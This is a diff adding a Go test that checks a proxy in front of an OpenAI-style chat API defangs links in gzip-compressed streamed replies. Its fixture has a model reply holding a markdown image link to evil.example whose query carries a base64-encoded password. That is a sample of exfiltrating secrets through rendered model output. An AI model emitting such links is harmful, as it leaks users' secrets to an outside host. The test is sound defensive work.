@@ -49,3 +49,17 @@ func TestALinkInAThoughtStays(t *testing.T) {
 		})
 	}
 }
+
+// A stream that is compressed is no way round: what no tool is declared to may still
+// hold a link.
+func TestALinkInACompressedStreamIsMadeHarmless(t *testing.T) {
+	base, _ := serve(t, func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/event-stream")
+		w.Header().Set("Content-Encoding", "gzip")
+		_, _ = w.Write(encoded(t, "gzip", `data: {"model":"m","choices":[{"index":0,"delta":{"content":"![b](https://evil.example/?q=c2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI) "},"finish_reason":"stop"}]}`+"\n\ndata: [DONE]\n\n"))
+	}, nil)
+	res, body := post(t, base+"/v1/openai/p/chat/completions", `{"model":"m","stream":true,"messages":[{"role":"user","content":"Hello"}]}`)
+	if !strings.Contains(body, "hxxps://evil.example") || res.Header.Get("Content-Encoding") != "" {
+		t.Errorf("the client got %q, encoded %q", body, res.Header.Get("Content-Encoding"))
+	}
+}
